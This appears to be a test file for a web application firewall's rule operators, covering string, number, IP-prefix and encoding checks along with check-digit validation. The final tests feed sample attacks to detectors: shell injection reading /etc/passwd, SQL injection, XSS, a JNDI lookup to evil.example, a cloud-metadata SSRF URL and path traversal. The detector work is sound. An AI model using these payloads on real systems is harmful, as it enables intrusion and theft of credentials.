import assert from 'node:assert/strict'
import { test } from 'node:test'
import * as fc from 'fast-check'
import type { ByteString } from '../language/bytes.ts'
import { bytesOf } from '../language/bytes.ts'
import { operatorNames } from './compile-operator.ts'
import { captured, compile, holds, scopeOf } from './testing.ts'

const bytes = fc.uint8Array({ maxLength: 60 }).map(bytesOf)

test('an unknown operator is a mistake that names the nearest one', () => {
  const { operator, diagnostics } = compile('beginWith', 'x')
  assert.equal(operator, undefined)
  assert.deepEqual(
    diagnostics.map(({ code, fix }) => [code, fix]),
    [['unknown-operator', 'did you mean @beginsWith?']],
  )
  assert.equal(compile('constructor', '').diagnostics[0]?.code, 'unknown-operator')
  assert.equal(compile('__proto__', '').diagnostics[0]?.code, 'unknown-operator')
})

test('operators that would wait for others or rewrite what passes are refused by name', () => {
  for (const name of ['rbl', 'geoLookup', 'fuzzyHash', 'inspectFile', 'rsub', 'validateHash', 'gsbLookup']) {
    const { operator, diagnostics } = compile(name, 'x')
    assert.equal(operator, undefined, name)
    assert.equal(diagnostics[0]?.code, 'refused-operator', name)
  }
})

test('every operator answers for any bytes', () => {
  const files = { '/rules/a.data': '192.0.2.1\n' }
  const argumentOf = (name: string): string => {
    if (/^detect|^un|^no|Encoding$/.test(name)) return ''
    if (/file|F$|pmf/i.test(name)) return 'a.data'
    return name.startsWith('ip') ? '192.0.2.1' : '1'
  }
  for (const name of operatorNames) {
    const { operator, diagnostics } = compile(name, argumentOf(name), files)
    assert.ok(operator, name)
    assert.deepEqual(diagnostics, [], name)
    fc.assert(
      fc.property(bytes, (value) => {
        const first = operator.test(value, scopeOf({}), undefined)
        assert.equal(typeof first, 'boolean')
        assert.equal(operator.test(value, scopeOf({}), { set: () => {} }), first, `${name} with captures`)
      }),
    )
  }
})

test('texts are compared byte by byte', () => {
  assert.ok(holds('streq', 'abc', 'abc'))
  assert.ok(!holds('streq', 'abc', 'ABC'))
  assert.ok(holds('contains', 'b', 'abc'))
  assert.ok(holds('strmatch', 'bc', 'abc'))
  assert.ok(holds('endsWith', '.php', 'x.php'))
  assert.ok(!holds('endsWith', '.php', 'x.php.'))
  assert.ok(holds('within', '|GET|POST|', '|GET|'))
  assert.ok(!holds('within', '|GET|POST|', 'PUT'))
})

test('a word has no letter, digit or underscore beside it', () => {
  for (const value of ['or', 'a or b', 'orb or', '(or)', 'xor or'])
    assert.ok(holds('containsWord', 'or', value), value)
  for (const value of ['', 'xor', 'order', 'or_', '1or', 'orororor'])
    assert.ok(!holds('containsWord', 'or', value), value)
})

test('an argument with macros is expanded for each request', () => {
  const variables = { 'REQUEST_HEADERS.host': 'shop.example', 'TX.limit': '5', 'TX.allowed': 'GET POST' }
  assert.ok(holds('endsWith', '.%{request_headers.host}', 'http://a.shop.example', variables))
  assert.ok(!holds('endsWith', '.%{request_headers.host}', 'http://evil.example', variables))
  assert.ok(holds('within', '%{tx.allowed}', 'GET', variables))
  assert.ok(holds('gt', '%{tx.limit}', '6', variables))
  assert.ok(!holds('gt', '%{tx.limit}', '5', variables))
  assert.equal(compile('gt', '%{tx.limit}').operator?.macro, true)
  assert.equal(compile('gt', '5').operator?.macro, false)
})

test('numbers are read as far as they are numbers, and never wrap round', () => {
  assert.ok(holds('eq', '0', ''))
  assert.ok(holds('eq', '0', 'abc'))
  assert.ok(holds('eq', '12', ' 12abc'))
  assert.ok(holds('eq', '-3', '-3'))
  assert.ok(holds('ge', '5', '5'))
  assert.ok(holds('le', '5', '5'))
  assert.ok(holds('lt', '5', '4'))
  for (const digits of ['4294967297', '9223372036854775808', '9'.repeat(400)])
    assert.ok(holds('gt', '100', digits))
  assert.equal(compile('gt', 'many').diagnostics[0]?.code, 'operator-argument')
  assert.ok(holds('eq', '70.000', '70'))
  assert.equal(compile('gt', '').diagnostics[0]?.code, 'operator-argument')
})

test('phrases are found in any case and captured as the value has them', () => {
  assert.deepEqual(captured('pm', 'union select', 'x UNION y'), { 0: 'UNION' })
  assert.deepEqual(captured('pm', 'union select', 'x y'), {})
  assert.ok(holds('pm', 'a|0d 0a|b', 'xa\r\nb'))
  assert.ok(holds('pm', 'a|b', 'A|B'))
  assert.ok(holds('pm', 'some|20|words|20|here x', 'with some words here'))
  assert.ok(!holds('pm', 'some|20|words', 'words'))
  assert.equal(compile('pm', ' ').diagnostics[0]?.code, 'operator-argument')
})

test('phrases of files keep their spaces, and comments are none', () => {
  const files = { '/rules/a.data': '# comment\r\n\r\n  bin/sh -c \n', '/etc/b.data': 'passwd\n' }
  const { operator, diagnostics } = compile('pmFromFile', 'a.data /etc/b.data', files)
  assert.deepEqual(diagnostics, [])
  assert.ok(operator?.test('/BIN/sh -C id' as ByteString, scopeOf({}), undefined))
  assert.ok(operator?.test('/etc/passwd' as ByteString, scopeOf({}), undefined))
  assert.ok(!operator?.test('# comment bin/sh' as ByteString, scopeOf({}), undefined))
})

test('a data file that is missing, empty or on another machine is a mistake', () => {
  const files = { '/rules/empty.data': '# nothing\n' }
  const mistakes = ['missing.data', '', 'https://example.com/list', 'empty.data'].map(
    (name) => compile('pmFromFile', name, files).diagnostics[0]?.code,
  )
  assert.deepEqual(mistakes, ['data-file', 'data-file', 'data-file', 'operator-argument'])
  assert.equal(compile('pmFromFile', 'missing.data').operator, undefined)
})

test('addresses are matched by prefix in every spelling', () => {
  assert.ok(holds('ipMatch', '10.0.0.0/8, 2001:db8::/32', '10.1.2.3'))
  assert.ok(holds('ipMatch', '10.0.0.0/8,2001:db8::/32', '2001:DB8:0:0::1'))
  assert.ok(holds('ipMatch', '10.0.0.0/8', '::ffff:10.0.0.1'))
  assert.ok(holds('ipMatch', '10.0.0.0/8', '::ffff:a00:1'))
  assert.ok(holds('ipMatch', '0.0.0.0/0', '255.255.255.255'))
  assert.ok(holds('ipMatch', '::/0', 'ffff::1'))
  assert.ok(!holds('ipMatch', '::/0', '10.0.0.1'))
  for (const value of [
    '',
    '10.0.0',
    '10.0.0.256',
    '010.0.0.1',
    '10.0.0.1 ',
    '1::2::3',
    ':::',
    '1:2:3:4:5:6:7:8:9',
    ':1',
  ]) {
    assert.ok(!holds('ipMatch', '0.0.0.0/0,::/0', value), value)
  }
})

test('what is no address in a rule is a mistake', () => {
  for (const argument of ['10.0.0.0/33', '10.0.0/8', '', 'localhost', '::/129', '10.0.0.1/', '10.0.0.1/8x']) {
    assert.equal(compile('ipMatch', argument).diagnostics[0]?.code, 'operator-argument', argument)
  }
})

test('an address is in a set if and only if it is in one of its prefixes', () => {
  const v4 = fc.nat({ max: 0xffffffff }).map((number) => number & 0x0303ff03)
  const dotted = (number: number): string => [24, 16, 8, 0].map((shift) => (number >>> shift) & 255).join('.')
  const prefixes = fc.array(fc.tuple(v4, fc.nat({ max: 32 })), { minLength: 1, maxLength: 8 })
  fc.assert(
    fc.property(prefixes, v4, (list, address) => {
      const argument = list.map(([number, bits]) => `${dotted(number)}/${bits}`).join(',')
      const expected = list.some(
        ([number, bits]) => bits === 0 || number >>> (32 - bits) === address >>> (32 - bits),
      )
      assert.equal(holds('ipMatch', argument, dotted(address)), expected)
    }),
  )
})

test('bytes outside the ranges are found', () => {
  assert.ok(!holds('validateByteRange', '9,10,13,32-126', 'plain\r\n\ttext'))
  assert.ok(holds('validateByteRange', '32-126', 'caf\xe9'))
  assert.ok(holds('validateByteRange', '1-255', 'a\0b'))
  for (const argument of ['32-300', '50-20', 'a-z', '', '-5', '1-2-3']) {
    assert.equal(compile('validateByteRange', argument).diagnostics[0]?.code, 'operator-argument', argument)
  }
})

test('bytes are outside the ranges if and only if they are in none of them', () => {
  const byte = fc.nat({ max: 255 })
  const ranges = fc.array(fc.tuple(byte, byte), { minLength: 1, maxLength: 4 })
  fc.assert(
    fc.property(ranges, bytes, (list, value) => {
      const sorted = list.map(([one, other]) => [Math.min(one, other), Math.max(one, other)] as const)
      const argument = sorted.map(([low, high]) => `${low}-${high}`).join(',')
      const isOutside = Buffer.from(value, 'latin1').some((each) =>
        sorted.every(([low, high]) => each < low || each > high),
      )
      assert.equal(holds('validateByteRange', argument, value), isOutside)
    }),
  )
})

test('encodings that are not whole are found', () => {
  for (const value of ['%', 'a%2', '%zz', '%4', '%%41', 'ok%41%'])
    assert.ok(holds('validateUrlEncoding', '', value), value)
  for (const value of ['', 'abc', '%41', '+%20%0A'])
    assert.ok(!holds('validateUrlEncoding', '', value), value)
  for (const value of ['\xc0\xaf', '\xed\xa0\x80', '\xf5\x80\x80\x80', '\xe2\x82', '\x80']) {
    assert.ok(holds('validateUtf8Encoding', '', value), value)
  }
})

test('regular expressions capture their groups, and groups that took no part are empty', () => {
  assert.deepEqual(captured('rx', '(a)|(b)', 'xb'), { 0: 'b', 1: '', 2: 'b' })
  assert.deepEqual(captured('rxGlobal', '([a-z])[0-9]', 'a1 b2'), { 0: 'b2', 1: 'b' })
  assert.deepEqual(Object.keys(captured('rx', '(.)'.repeat(12), 'abcdefghijkl')).length, 10)
  assert.ok(compile('rx', 'a').operator?.regex)
})

test('a regular expression with macros is that of the moment', () => {
  const variables = { 'TX.allowed': 'utf-8|iso-8859-1' }
  assert.ok(holds('rx', '^(?:%{tx.allowed})$', 'utf-8', variables))
  assert.ok(!holds('rx', '^(?:%{tx.allowed})$', 'utf-7', variables))
  const { operator } = compile('rx', '^(%{tx.a})')
  const values = [
    'a',
    'b',
    'a',
    '(',
    'x'.repeat(5_000),
    ...Array.from({ length: 200 }, (_, index) => `p${index}`),
  ]
  for (const value of values) {
    const isHeld = operator?.test(`${value}!` as ByteString, scopeOf({ 'TX.a': value }), undefined)
    assert.equal(isHeld, value !== '(' && value.length < 5_000, value.slice(0, 10))
  }
})

test('a regular expression whose matches are counted or verified is known at load', () => {
  for (const name of ['rxGlobal', 'verifyCC']) {
    const { operator, diagnostics } = compile(name, '^%{tx.pattern}$')
    assert.equal(operator, undefined)
    assert.equal(diagnostics[0]?.code, 'operator-argument')
  }
  assert.ok(holds('rx', '%{2}', '%%'))
  assert.equal(compile('rx', '(').diagnostics[0]?.code, 'regular-expression')
})

test('numbers of cards and persons are verified by their check digits', () => {
  assert.ok(holds('verifyCC', '[0-9]{13,16}', 'card 4111111111111111'))
  assert.ok(holds('verifyCC', '[0-9]{13,16}', 'after a digit 94111111111111111'))
  assert.ok(!holds('verifyCC', '\\b[0-9]{16}\\b', 'card 4111111111111112'))
  assert.ok(!holds('verifyCC', '[0-9]{13,16}', '0000000000000000'))
  assert.ok(holds('verifyCPF', '[0-9.-]{11,14}', '529.982.247-25'))
  assert.ok(!holds('verifyCPF', '[0-9.-]{11,14}', '529.982.247-26'))
  assert.ok(!holds('verifyCPF', '[0-9.-]{11,14}', '111.111.111-11'))
  assert.ok(holds('verifySSN', '[0-9]{3}-[0-9]{2}-[0-9]{4}', '078-05-1120'))
  for (const number of [
    '000-12-3456',
    '666-12-3456',
    '123-00-4567',
    '123-45-0000',
    '123-45-6789',
    '900-12-3456',
  ]) {
    assert.ok(!holds('verifySSN', '[0-9]{3}-[0-9]{2}-[0-9]{4}', number), number)
  }
  assert.ok(holds('verifySVNR', '[0-9]{10}', '1237010180'))
  assert.ok(!holds('verifySVNR', '[0-9]{10}', '1238010180'))
  assert.deepEqual(captured('verifyCC', '[0-9]{13,16}', 'x4111111111111111'), { 0: '4111111111111111' })
})

test('a detector captures what gave the attack away', () => {
  assert.match(captured('detectSQLi', '', "1' or '1'='1")[0] ?? '', /or/)
  assert.equal(compile('detectSQLi', 'strict').diagnostics[0]?.code, 'operator-argument')
})

test('every kind of attack has its operator, and plain words none', () => {
  const attacks: readonly (readonly [string, string])[] = [
    ['detectCrlf', 'en\r\nSet-Cookie: a=b'],
    ['detectLdap', '*)(uid=*))(|(uid=*'],
    ['detectNoSql', '{"$ne": null}'],
    ['detectPrototypePollution', '__proto__[admin]'],
    ['detectSerialized', 'O:8:"stdClass":1:{s:1:"a";i:1;}'],
    ['detectShell', '; cat /etc/passwd'],
    ['detectSQLi', "1' union select password from users--"],
    ['detectSsrf', 'http://169.254.169.254/latest/meta-data/'],
    ['detectTemplate', '${jndi:ldap://evil.example/a}'],
    ['detectTraversal', '../../../etc/passwd'],
    ['detectXPath', "' or count(//user)=1 or 'a'='"],
    ['detectXSS', '<img src=x onerror=alert(1)>'],
  ]
  for (const [name, attack] of attacks) {
    assert.ok(holds(name, '', attack), name)
    assert.ok(!holds(name, '', 'three plain words'), name)
    assert.notEqual(captured(name, '', attack)[0], undefined, name)
  }
})
